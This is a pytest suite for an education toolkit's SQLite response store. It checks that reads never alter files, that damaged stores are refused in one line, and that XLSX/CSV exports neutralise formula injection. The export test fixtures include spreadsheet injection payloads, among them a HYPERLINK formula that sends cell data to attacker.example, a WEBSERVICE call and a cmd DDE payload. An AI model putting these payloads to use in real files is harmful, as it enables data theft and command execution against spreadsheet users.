"""Reading a response store never changes it, whatever the file is, and on a read-only disk.

A table of files (another application's database, empty and 0-byte files, text, a store with dropped
tables, a newer schema version, corrupt JSON, valid stores in each journal state a writer can leave) is
read by every read path (``responses export`` to CSV and XLSX, the report's store reading and its
command's check, the store's read-only counts). After each read the folder holding the file is
compared with a snapshot taken before: the same names, and for each file the same bytes (SHA-256),
size and modification time. The outcome is the data, or one line (one per damaged row for corrupt
JSON, then one saying nothing was written), never a traceback.

The read-only cases are honest although the suite may run as root, whom ``chmod`` does not stop: as
root the read runs in a private mount namespace (``unshare -m``) where the store's folder is bind-
mounted read-only, so the kernel refuses every write with ``EROFS``; as another user the folder and
its files are made read-only with ``chmod``. Either way the driver first tries to create a file in the
folder and the test asserts that this was refused, so a case that does not really forbid writing
fails instead of passing quietly.

``bench/store_reads.py`` reruns the same table (and the XLSX and CSV payloads) for the figures, with
this checkout's toolkit or another's.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from toolkit.cli import main
from toolkit.documents.items import ITEM_TYPES
from toolkit.errors import ResponseError, StoreError, ToolkitError
from toolkit.responses.schema import SCHEMA_VERSION, connect
from toolkit.responses.store import ResponseStore, SheetRecord
from toolkit.testing.synthetic import generate

HERE = Path(__file__).resolve()
STORE = "store.sqlite"

# -- the files --------------------------------------------------------------------------------------


def _valid(folder: Path) -> Path:
    path = folder / STORE
    generate(path, learners=12, sessions=2, seed=3)
    return path


def _writer_killed(path: Path, sql: str) -> None:
    """Run ``sql`` (statements separated by ';') in a writer that is killed before it closes, mid-transaction
    when ``sql`` leaves one open."""
    code = (
        "import os, sqlite3, sys\n"
        "conn = sqlite3.connect(sys.argv[1], isolation_level=None)\n"
        "for statement in sys.argv[2].split(';'):\n"
        "    conn.execute(statement)\n"
        "os._exit(0)\n"
    )
    subprocess.run([sys.executable, "-c", code, str(path), sql], check=True)


def _sql(path: Path, *statements: str) -> None:
    conn = sqlite3.connect(path, isolation_level=None)
    for statement in statements:
        conn.execute(statement)
    conn.close()


def other_application(folder: Path) -> Path:
    path = folder / STORE
    _sql(path, "CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT)", "INSERT INTO notes (body) VALUES ('hello')")
    return path


def other_application_wal(folder: Path) -> Path:
    path = folder / STORE
    _sql(path, "PRAGMA journal_mode = WAL", "CREATE TABLE t (a)", "INSERT INTO t VALUES (1)")
    return path


def other_application_marked(folder: Path) -> Path:
    path = _valid(folder)  # every table of a store, but another application's marker
    _sql(path, "PRAGMA application_id = 305419896")
    return path


def empty_database(folder: Path) -> Path:
    path = folder / STORE
    _sql(path, "PRAGMA user_version = 7")  # a valid SQLite file without a table
    return path


def zero_bytes(folder: Path) -> Path:
    path = folder / STORE
    path.touch()
    return path


def text_file(folder: Path) -> Path:
    path = folder / STORE
    path.write_text("session,learner\nautumn,li-ming\n" * 20)
    return path


def dropped_tables(folder: Path) -> Path:
    path = _valid(folder)
    _sql(path, "DROP TABLE results", "DROP TABLE answers")
    return path


def newer_version(folder: Path) -> Path:
    path = _valid(folder)
    _sql(path, f"UPDATE meta SET value = '{SCHEMA_VERSION + 1}' WHERE key = 'schema_version'")
    return path


def corrupt_json(folder: Path) -> Path:
    path = _valid(folder)
    _sql(
        path,
        "UPDATE answers SET value = '{\"broken' WHERE rowid IN (SELECT rowid FROM answers ORDER BY rowid LIMIT 2)",
        "UPDATE results SET given = 'not json' WHERE rowid = (SELECT min(rowid) FROM results)",
        "UPDATE sheets SET items = '[1, 2' WHERE rowid = (SELECT max(rowid) FROM sheets)",
        "UPDATE answers SET value = '\"a\\ud800\"' WHERE rowid = (SELECT max(rowid) FROM answers)",
    )
    return path


def not_utf8(folder: Path) -> Path:
    path = _valid(folder)  # text written by something else: bytes that are not UTF-8
    _sql(
        path,
        "UPDATE answers SET value = CAST(x'22ff22' AS TEXT) WHERE rowid = (SELECT min(rowid) FROM answers)",
        "UPDATE learners SET name = CAST(x'4c69c0' AS TEXT) WHERE rowid = (SELECT min(rowid) FROM learners)",
    )
    return path


def valid_wal(folder: Path) -> Path:
    return _valid(folder)  # closed cleanly: WAL mode, no -wal or -shm beside it


def valid_rollback(folder: Path) -> Path:
    path = _valid(folder)
    _sql(path, "PRAGMA journal_mode = DELETE")  # a store copied or converted to a rollback journal
    return path


def valid_wal_crashed(folder: Path) -> Path:
    path = _valid(folder)  # a writer killed after committing: its saves are only in the -wal
    _writer_killed(path, "INSERT INTO learners VALUES ('late', NULL, '2026-12-01T00:00:00.000000Z')")
    assert (folder / f"{STORE}-wal").stat().st_size > 0 and (folder / f"{STORE}-shm").exists()
    return path


def valid_wal_without_shm(folder: Path) -> Path:
    path = valid_wal_crashed(folder)
    (folder / f"{STORE}-shm").unlink()
    return path


def valid_hot_journal(folder: Path) -> Path:
    path = valid_rollback(folder)  # a writer killed in the middle of a transaction
    _writer_killed(path, "PRAGMA cache_size = 1; BEGIN; DELETE FROM saves; DELETE FROM answers")
    assert (folder / f"{STORE}-journal").stat().st_size > 0
    return path


FILES: dict[str, tuple[Callable[[Path], Path], bool]] = {  # name: (builder, is a readable store)
    "other application": (other_application, False),
    "other application, WAL": (other_application_wal, False),
    "other application's marker": (other_application_marked, False),
    "empty SQLite database": (empty_database, False),
    "0-byte file": (zero_bytes, False),
    "text file": (text_file, False),
    "store with dropped tables": (dropped_tables, False),
    "store of a newer version": (newer_version, False),
    "store with corrupt JSON": (corrupt_json, False),
    "store with text that is not UTF-8": (not_utf8, True),
    "valid store (WAL, closed)": (valid_wal, True),
    "valid store (rollback journal)": (valid_rollback, True),
    "valid store, -wal and -shm left by a killed writer": (valid_wal_crashed, True),
    "valid store, -wal without -shm": (valid_wal_without_shm, True),
    "valid store, hot journal of a killed writer": (valid_hot_journal, True),
}
DECODES_NOTHING = {"counts"}  # read paths that read no JSON column: a store with corrupt JSON gives them data


def readable_by(name: str, path_name: str) -> bool:
    return FILES[name][1] or (name == "store with corrupt JSON" and path_name in DECODES_NOTHING)


READ_ONLY_FILES = [name for name, (_, readable) in FILES.items() if readable] + ["store of a newer version"]

# -- the read paths ---------------------------------------------------------------------------------


def _report_store(store: Path, out: Path) -> list[str]:
    from toolkit.documents.report import analysis
    from toolkit.responses.schema import open_store

    open_store(store).close()  # what `lianzheng report` checks first
    return [json.dumps(analysis.read_store(store).counts(), sort_keys=True)]


def _counts(store: Path, out: Path) -> list[str]:
    reader = ResponseStore.open_readonly(store)
    try:
        return [json.dumps(reader.counts(), sort_keys=True)]
    finally:
        reader.close()


def _export(suffix: str) -> Callable[[Path, Path], list[str]]:
    def export(store: Path, out: Path) -> list[str]:
        target = out / f"answers{suffix}"
        stdout, stderr = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
            code = main(["responses", "export", "--store", str(store), "--out", str(target)])
        if code:
            raise Refused(stderr.getvalue().splitlines())
        return [stdout.getvalue().strip()]

    return export


class Refused(Exception):
    """A read path's one-line answer (or one line per damaged row) on stderr."""

    def __init__(self, lines: list[str]) -> None:
        super().__init__("\n".join(lines))
        self.lines = lines


READ_PATHS: dict[str, Callable[[Path, Path], list[str]]] = {
    "export csv": _export(".csv"),
    "export xlsx": _export(".xlsx"),
    "report": _report_store,
    "counts": _counts,
}


def read(path_name: str, store: Path, out: Path) -> dict[str, Any]:
    """Run one read path: ``{"ok": True, "lines": ...}`` with its data, or ``{"ok": False, "lines": ...}``
    with what it said; a traceback is ``{"traceback": ...}``."""
    try:
        return {"ok": True, "lines": READ_PATHS[path_name](store, out)}
    except Refused as refused:
        return {"ok": False, "lines": refused.lines}
    except ToolkitError as exc:
        problems = getattr(exc, "problems", None)
        return {"ok": False, "lines": [*(str(p) for p in problems or ()), f"lianzheng: {exc}"]}
    except Exception as exc:  # a crash is the outcome the test looks for
        return {"ok": False, "traceback": f"{type(exc).__name__}: {exc}"}


def snapshot(folder: Path) -> dict[str, tuple[int, int, str]]:
    """Every file in ``folder``: size, modification time (ns) and SHA-256."""
    return {
        entry.name: (entry.stat().st_size, entry.stat().st_mtime_ns, hashlib.sha256(entry.read_bytes()).hexdigest())
        for entry in sorted(folder.iterdir())
    }


def reference_counts(folder: Path, scratch: Path) -> str:
    """What a plain SQLite connection sees in a copy of ``folder`` (it recovers a -wal, rolls back a
    journal), as the ``counts`` read path prints it: the data a reader must return."""
    copy = shutil.copytree(folder, scratch)
    conn = sqlite3.connect(copy / STORE)
    tables = ("sheets", "learners", "saves", "answers", "submissions", "results")
    counts = {table: conn.execute(f"SELECT count(*) FROM {table}").fetchone()[0] for table in tables}
    conn.close()
    return json.dumps(counts, sort_keys=True)


def one_line_each(result: dict[str, Any]) -> bool:
    """A refusal is one line, or for damaged rows one line per row and a last line saying so."""
    lines = result["lines"]
    if not lines or any("\n" in line or "Traceback" in line for line in lines):
        return False
    if len(lines) == 1:
        return True
    return bool(lines[-1].startswith("lianzheng: ") and "damaged row" in lines[-1])


# -- the table, in place ----------------------------------------------------------------------------


@pytest.mark.parametrize("name", list(FILES))
def test_every_read_path_leaves_the_file_as_it_was(name: str, tmp_path: Path) -> None:
    builder = FILES[name][0]
    for path_name in READ_PATHS:
        readable = readable_by(name, path_name)
        folder, out = tmp_path / path_name / "store", tmp_path / path_name / "out"
        folder.mkdir(parents=True)
        out.mkdir()
        store = builder(folder)
        before = snapshot(folder)
        result = read(path_name, store, out)
        assert snapshot(folder) == before, f"{name}, {path_name}: the read changed the folder"
        assert "traceback" not in result, f"{name}, {path_name}: {result}"
        assert result["ok"] is readable, f"{name}, {path_name}: {result}"
        if not readable:
            assert one_line_each(result), f"{name}, {path_name}: {result['lines']}"
            assert not list(out.iterdir()), f"{name}, {path_name}: wrote {list(out.iterdir())}"
        elif path_name == "counts":  # the latest committed data, a killed writer's last commit included
            assert result["lines"] == [reference_counts(folder, tmp_path / "reference")]


def test_the_refusals_name_what_is_wrong(tmp_path: Path) -> None:
    said = {}
    for name, (builder, readable) in FILES.items():
        if not readable:
            folder = tmp_path / name
            folder.mkdir()
            said[name] = read("counts", builder(folder), tmp_path)["lines"]
    assert "not a response store (no table sheets, learners, saves, answers" in said["other application"][-1]
    assert "it holds notes" in said["other application"][-1]
    assert "another application, id 0x12345678" in said["other application's marker"][-1]
    assert "not a response store (no table sheets" in said["empty SQLite database"][-1]
    assert "the file is empty: 0 bytes" in said["0-byte file"][-1]
    assert "not a response store (file is not a database)" in said["text file"][-1]
    assert "no table answers, results" in said["store with dropped tables"][-1]
    newer = SCHEMA_VERSION + 1
    assert (
        f"schema version {newer}, newer than this Lianzheng reads ({SCHEMA_VERSION} and older)"
        in said["store of a newer version"][-1]
    )


def test_corrupt_json_is_one_line_per_row_naming_table_key_and_column(tmp_path: Path) -> None:
    store = corrupt_json(tmp_path)
    conn = sqlite3.connect(store)
    broken = conn.execute("SELECT session, sheet, learner, item FROM answers WHERE value = '{\"broken'").fetchall()
    sheet = conn.execute("SELECT session, sheet FROM sheets WHERE items = '[1, 2'").fetchone()
    conn.close()
    result = read("report", store, tmp_path)
    lines = result["lines"]
    assert len(lines) == 6 and lines[-1].startswith("lianzheng: ") and "(and 4 more damaged rows)" in lines[-1]
    for session, sheet_id, learner, item in broken:
        key = f"session={session!r} sheet={sheet_id!r} learner={learner!r} item={item!r}"
        assert any(f"table answers, row {key}: column value is not valid JSON" in line for line in lines)
    assert any("table results, row" in line and "column given is not valid JSON" in line for line in lines)
    assert any("column value holds a lone surrogate" in line for line in lines)
    assert any(f"table sheets, row session={sheet[0]!r} sheet={sheet[1]!r}: column items" in line for line in lines)
    exported = read("export csv", store, tmp_path)
    assert not exported["ok"] and exported["lines"][-1].endswith("; nothing was written")
    assert all(line.startswith(f"{store}: table ") for line in exported["lines"][:-1])


def test_lianzheng_report_refuses_before_a_kernel_starts(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for builder, said in ((newer_version, "newer than this Lianzheng reads"), (corrupt_json, "damaged rows")):
        folder = tmp_path / builder.__name__
        folder.mkdir()
        store = builder(folder)
        before = snapshot(folder)
        assert main(["report", "--store", str(store), "--out", str(tmp_path / "r.html")]) == 2
        err = capsys.readouterr().err.splitlines()
        assert said in err[-1] and err[-1].startswith("lianzheng: ")
        assert len(err) == 1 or all(line.startswith(f"{store}: table ") for line in err[:-1])
        assert snapshot(folder) == before and not (tmp_path / "r.html").exists()


def test_writers_refuse_another_application_and_a_newer_store(tmp_path: Path) -> None:
    for builder in (other_application, other_application_marked, newer_version):
        folder = tmp_path / builder.__name__
        folder.mkdir()
        store = builder(folder)
        before = snapshot(folder)
        with pytest.raises(ResponseError) as caught:
            ResponseStore(store).counts()
        assert "\n" not in str(caught.value) and (
            "not a response store" in str(caught.value) or "newer than" in str(caught.value)
        )
        assert snapshot(folder) == before
    from toolkit.responses.schema import open_store

    fresh = tmp_path / "fresh" / STORE
    fresh.parent.mkdir()
    fresh.touch()  # a writer makes a store in a new or empty file, as before
    connect(fresh).close()
    with contextlib.closing(open_store(fresh)) as reader:
        assert reader.execute("PRAGMA application_id").fetchone()[0] == 0x4C5A5253
        assert reader.schema_version == SCHEMA_VERSION  # type: ignore[attr-defined]


def test_a_read_only_store_refuses_to_write(tmp_path: Path) -> None:
    store = _valid(tmp_path)
    before = snapshot(tmp_path)
    reader = ResponseStore.open_readonly(store)
    with pytest.raises(ResponseError, match="opened for reading only; nothing was written"):
        reader.register_learner("someone")
    reader.close()
    assert snapshot(tmp_path) == before


def test_a_live_writer_and_a_reader(tmp_path: Path) -> None:
    """Beside a writer that holds the store open, the reader reads its latest commit in place (mode=ro),
    and leaves the store file and its -wal as they were."""
    store = _valid(tmp_path)
    code = (
        "import sqlite3, sys\n"
        "conn = sqlite3.connect(sys.argv[1], isolation_level=None)\n"
        "conn.execute(\"INSERT INTO learners VALUES ('late', NULL, '2026-12-01T00:00:00.000000Z')\")\n"
        "print('saved', flush=True)\n"
        "sys.stdin.read()\n"
    )
    writer = subprocess.Popen(
        [sys.executable, "-c", code, str(store)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    assert writer.stdout is not None and writer.stdout.readline() == "saved\n"
    try:
        kept = {name: value for name, value in snapshot(tmp_path).items() if not name.endswith("-shm")}
        reader = ResponseStore.open_readonly(store)
        learners = reader.conn.execute("SELECT count(*) FROM learners WHERE learner = 'late'").fetchone()[0]
        assert getattr(reader.conn, "how", None) == "ro"
        reader.close()
        assert learners == 1
        # the -shm is the index every WAL reader marks its snapshot in; it holds no data
        assert {name: value for name, value in snapshot(tmp_path).items() if not name.endswith("-shm")} == kept
    finally:
        writer.communicate("")


def test_a_writer_that_changes_the_file_during_an_immutable_read_is_one_line(tmp_path: Path) -> None:
    from toolkit.storefile import open_readonly

    store = _valid(tmp_path)
    reader = open_readonly(store)  # closed cleanly, so no -wal: read as immutable
    assert reader.how == "immutable"
    writer = connect(store)  # a writer arriving: an empty -wal appears; the file is as it was
    assert reader.execute("SELECT count(*) FROM learners").fetchone()[0] == 12
    reader.close()  # no error: the file did not change
    writer.execute("INSERT INTO learners VALUES ('late', NULL, '2026-12-01T00:00:00.000000Z')")
    writer.close()  # the last connection copies the -wal into the file: the file changes
    assert not (tmp_path / f"{STORE}-wal").exists()
    reader = open_readonly(store)
    assert reader.how == "immutable"
    writer = connect(store)
    writer.execute("INSERT INTO learners VALUES ('later', NULL, '2026-12-01T00:00:00.000000Z')")
    writer.close()
    with pytest.raises(StoreError, match=r"a writer changed the store while it was being read; read it again$"):
        reader.close()


# -- the table, on a read-only disk -----------------------------------------------------------------


def _read_only_command(folder: Path, argv: list[str]) -> list[str] | None:
    """The command that runs ``argv`` with ``folder`` read-only for real, or None where that cannot be
    arranged (root without mount namespaces)."""
    if os.geteuid() != 0:
        return argv  # the caller chmods; the kernel enforces it for a user who is not root
    unshare = shutil.which("unshare")
    if unshare is None:
        return None
    probe = subprocess.run(
        [unshare, "-m", "sh", "-c", 'mount --bind "$1" "$1" && mount -o remount,ro,bind "$1" "$1"', "sh", str(folder)],
        capture_output=True,
    )
    if probe.returncode != 0:
        return None
    script = 'mount --bind "$1" "$1" && mount -o remount,ro,bind "$1" "$1" && shift && exec "$@"'
    return [unshare, "-m", "sh", "-c", script, "sh", str(folder), *argv]


@contextlib.contextmanager
def _chmod_read_only(root: Path) -> Iterator[None]:
    """``root`` and everything in it read-only, for a user who is not root (root uses a mount instead)."""
    if os.geteuid() == 0:
        yield
        return
    entries = [root, *root.rglob("*")]
    modes = {entry: entry.stat().st_mode for entry in entries}
    for entry in reversed(entries):
        entry.chmod(0o555 if entry.is_dir() else 0o444)
    try:
        yield
    finally:
        for entry in entries:
            entry.chmod(modes[entry])


def read_on_a_read_only_disk(names: list[str], scratch: Path, tree: Path, driver: Path = HERE) -> dict[str, Any]:
    """Build each file in ``names`` in its own folder under ``scratch/disk``, make that disk read-only,
    and run every read path on each in one process there (``driver --drive DISK OUT``). Per name: ``before`` and ``after`` snapshots,
    ``write refused`` (whether creating a file beside the store failed) and the ``results``; ``None``
    when a read-only disk cannot be made here."""
    disk, out = scratch / "disk", scratch / "out"
    folders = {name: disk / str(n) for n, name in enumerate(names)}
    for name, folder in folders.items():
        folder.mkdir(parents=True)
        (out / folder.name).mkdir(parents=True)
        FILES[name][0](folder)
    command = _read_only_command(disk, [sys.executable, str(driver), "--drive", str(disk), str(out)])
    if command is None:
        return {}
    before = {name: snapshot(folder) for name, folder in folders.items()}
    with _chmod_read_only(disk):
        done = subprocess.run(command, capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(tree)})
    assert done.returncode == 0, done.stderr
    driven = json.loads(done.stdout)
    return {
        name: {"before": before[name], "after": snapshot(folder), **driven[folder.name]}
        for name, folder in folders.items()
    }


@pytest.mark.slow
def test_every_read_path_reads_a_store_on_a_read_only_disk(tmp_path: Path) -> None:
    outcomes = read_on_a_read_only_disk(READ_ONLY_FILES, tmp_path, HERE.parent.parent)
    if not outcomes:
        pytest.skip("running as root without mount namespaces: a read-only folder cannot be made")
    for name, outcome in outcomes.items():
        readable = FILES[name][1]
        assert outcome["write refused"], f"{name}: the folder was writable, so this case proves nothing"
        assert outcome["after"] == outcome["before"], f"{name}: a read on the read-only disk changed the folder"
        for path_name, result in outcome["results"].items():
            assert "traceback" not in result, f"{name}, {path_name}: {result}"
            assert result["ok"] is readable, f"{name}, {path_name}: {result}"
            if not readable:
                assert one_line_each(result)


def _drive(disk: Path, out: Path) -> None:
    """On the read-only disk, for each folder: try to write beside the store (it must fail), then run
    every read path; prints the outcomes as JSON."""
    outcomes = {}
    for folder in sorted(disk.iterdir()):
        try:
            (folder / "probe").write_text("x")
            refused = False
            (folder / "probe").unlink()
        except OSError:
            refused = True
        results = {path_name: read(path_name, folder / STORE, out / folder.name) for path_name in READ_PATHS}
        outcomes[folder.name] = {"write refused": refused, "results": results}
    print(json.dumps(outcomes))


# -- XLSX and CSV: answers are text, never formulas -------------------------------------------------

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    '=WEBSERVICE("http://attacker.example")',
]
CONTROLS = ["a\x00b", "\x01", "bell\x07", "back\x08space", "v\x0btab", "form\x0cfeed", "esc\x1b[31m", "\x1f", "\ufffe"]


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, list[str]]:
    """A store whose answers are the payloads, saved by the real save path (one reflection item each)."""
    path = tmp_path / STORE
    answers = FORMULAS + CONTROLS + ["plain answer", "x" * 20_000]
    items = tuple({"id": f"r{n}", "type": "reflection", "text": "Why?"} for n in range(len(answers)))
    store = ResponseStore(path)
    store.register_sheet(SheetRecord("s1", "worksheet", "worksheet", "retired", "Sheet", "en", "1", {}, items))
    for n, answer in enumerate(answers):
        store.save("s1", "worksheet", "li-ming", f"r{n}", answer)
    store.close()
    return path, answers


def test_xlsx_cells_are_text_never_formulas_and_hold_only_what_xml_can(hostile: tuple[Path, list[str]]) -> None:
    from openpyxl import load_workbook

    store, answers = hostile
    out = store.parent / "answers.xlsx"
    assert main(["responses", "export", "--store", str(store), "--out", str(out)]) == 0
    with zipfile.ZipFile(out) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the sheet
    workbook = load_workbook(out)
    rows = list(workbook["answers"].iter_rows(min_row=2))
    by_item = {row[3].value: row[5] for row in rows}
    assert len(by_item) == len(answers)
    for n, answer in enumerate(answers):
        cell = by_item[f"r{n}"]
        assert cell.data_type == "s", (answer, cell.data_type)
        expected = "".join("\ufffd" if (ord(c) < 32 and c not in "\t\n\r") or c == "\ufffe" else c for c in answer)
        assert cell.value == expected
        assert cell.quotePrefix is answer.startswith(("=", "+", "-", "@", "\t", "\r"))
    workbook.close()


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(hostile: tuple[Path, list[str]]) -> None:
    import csv

    store, answers = hostile
    out = store.parent / "answers.csv"
    assert main(["responses", "export", "--store", str(store), "--out", str(out)]) == 0
    with out.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    by_item = {row["item"]: row["value"] for row in rows}
    for n, answer in enumerate(answers):
        quoted = answer.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert by_item[f"r{n}"] == ("'" + answer if quoted else answer)


# -- lone surrogates are refused where text is saved ------------------------------------------------


def test_a_lone_surrogate_is_refused_at_the_save_for_every_item_type(tmp_path: Path) -> None:
    items = tuple({"id": f"i-{kind}", "type": kind, "text": "?"} for kind in ITEM_TYPES)
    store = ResponseStore(tmp_path / STORE)
    store.register_sheet(SheetRecord("s1", "worksheet", "worksheet", "retired", "Sheet", "en", "1", {}, items))
    before = store.counts()
    for kind in ITEM_TYPES:
        for value in ("abc\ud800", "\udfff", ["\ud83d"]):
            with pytest.raises(ResponseError) as caught:
                store.save("s1", "worksheet", "li-ming", f"i-{kind}", value)
            assert "\n" not in str(caught.value) and f"i-{kind}" in str(caught.value)
    with pytest.raises(ResponseError, match=r"learner 'li-ming': the name holds a character that is not text"):
        store.register_learner("li-ming", "Li \ud800Ming")
    assert store.counts() == before
    store.close()


if __name__ == "__main__":
    if sys.argv[1:2] == ["--drive"]:
        _drive(Path(sys.argv[2]), Path(sys.argv[3]))
